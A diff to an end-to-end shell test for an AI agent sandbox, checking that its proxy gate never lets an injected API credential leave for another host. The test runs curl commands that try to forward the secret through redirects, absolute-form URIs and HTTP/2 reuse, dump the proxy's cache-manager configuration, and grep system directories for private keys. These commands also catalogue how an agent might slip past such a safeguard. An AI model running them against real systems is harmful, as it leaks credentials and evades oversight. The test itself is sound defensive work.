@@ -17,19 +17,26 @@ for _ in $(seq 50); do [ -s "$E2E_TMP/ports" ] && break; sleep 0.1; done
 read -r TLS PLAIN < "$E2E_TMP/ports" || true
 [ -n "${PLAIN:-}" ] || cannot_run "the HTTPS stand-in did not start"
 ca=$AISB_SRC/tests/e2e/tls/ca.pem
-names="--gate-add-host api.stub.test:127.0.0.1 --gate-add-host other.stub.test:127.0.0.1
+names="--gate-add-host api.stub.test:127.0.0.1 --gate-add-host other.stub.test:127.0.0.2
   --gate-add-host rules.stub.test:127.0.0.1 --gate-add-host denied.stub.test:127.0.0.1"
 export STUB_KEY=real-secret-e2e-$$
 real=$STUB_KEY
 secret="--ca-cert $ca --net allow --secret STUB_KEY@api.stub.test --allow api.stub.test:$TLS
   --allow api.stub.test:$PLAIN --allow other.stub.test:$TLS $names"
-# What the stand-in received: the credential headers of each request to PATH.
+# What the stand-in received: the credential headers of each request to PATH; and where the
+# value itself went (address, Host, path of each request that carried it).
 seen() { python3 -c '
 import json, sys
 for line in open(sys.argv[1]):
     r = json.loads(line)
     if r["path"] == sys.argv[2]:
         print(r["scheme"], " ".join(r["authorization"] + r["x-api-key"]))' "$E2E_TMP/requests" "$1"; }
+carried_by() { python3 -c '
+import json, sys
+for line in open(sys.argv[1]):
+    r = json.loads(line)
+    if any(sys.argv[2] in v for v in r["authorization"] + r["x-api-key"]):
+        print(r["addr"], r["host"], r["path"])' "$E2E_TMP/requests" "$1"; }
 
 "$AISB" build --quiet --ca-cert "$ca" >/dev/null
 
@@ -63,6 +70,39 @@ expect_eq "the run's gate went with the run" "" \
   "$(podman ps -a --filter label=aisb.gate.run=true --format '{{.Names}}')"
 expect_eq "and nothing of it stays in the state directory" "" \
   "$(grep -rsl "$real" "$HOME/.local/state/ai-sandbox" || true)"
+
+# The agent asks the gate to send the value elsewhere: a redirect it follows with the
+# header, an absolute-form URI naming another host inside the intercepted connection, HTTP/2
+# (whose connection reuse could carry a request for another name), the gate's cache manager
+# (whose configuration dump would hold the value), its CA key.
+out=$("$AISB" run $secret -- sh -c "
+  auth=\"Authorization: Bearer \$STUB_KEY\"
+  curl -sS -o /dev/null --location-trusted -H \"\$auth\" \
+    'https://api.stub.test:$TLS/redirect?to=https://other.stub.test:$TLS/after-redirect'
+  curl -sS -o /dev/null -H \"\$auth\" --request-target https://other.stub.test:$TLS/absolute-form \
+    https://api.stub.test:$TLS/
+  curl -sS -H \"\$auth\" --http2 -w 'http/%{http_version}\n' -o /dev/null -o /dev/null \
+    https://api.stub.test:$TLS/h2-first https://other.stub.test:$TLS/h2-second
+  gate=\${http_proxy#http://}; gate=\${gate%/}
+  for u in http://\$gate/squid-internal-mgr/config http://localhost/squid-internal-mgr/config \
+      http://127.0.0.1:\${gate##*:}/squid-internal-mgr/config; do
+    curl -s --noproxy '*' \$u; curl -s \$u
+  done
+  curl -s --noproxy '*' --request-target cache_object://localhost/config http://\$gate/
+  curl -s --noproxy '*' -H 'Host: localhost' http://\$gate/squid-internal-mgr/config
+  echo keys:; grep -rls 'PRIVATE KEY' /run /tmp /home /project /etc/ssl /usr/local/share | head -3
+  " 2>"$E2E_TMP/err") || { cat "$E2E_TMP/err" >&2; fail "the attack run: $out"; }
+expect_contains "a redirect to another host carries only the placeholder" "https Bearer " "$(seen /after-redirect)"
+expect_absent "(not the value)" "$real" "$(seen /after-redirect)"
+expect_eq "the value reached api.stub.test's address only, and its name" "" \
+  "$(carried_by "$real" | grep -v '^127\.0\.0\.1 api\.stub\.test:' || true)"
+expect_contains "HTTP/2 is not spoken to the sandbox: no connection is shared between names" "http/1.1
+http/1.1" "$out"
+expect_contains "the second name of that command got the placeholder" "https Bearer " "$(seen /h2-second)"
+expect_absent "the cache manager shows nothing of the configuration" "request_header_add" "$out"
+expect_absent "nor the value" "$real" "$out"
+expect_eq "no file in the sandbox holds a private key (the gate CA's included)" "" \
+  "$(printf '%s\n' "$out" | sed -n '/^keys:$/,$p' | sed 1d)"
 
 # podman's view of a running sandbox, its argv and a dry run: the placeholder, never the value.
 "$AISB" run $secret -- sleep 30 >/dev/null 2>&1 &
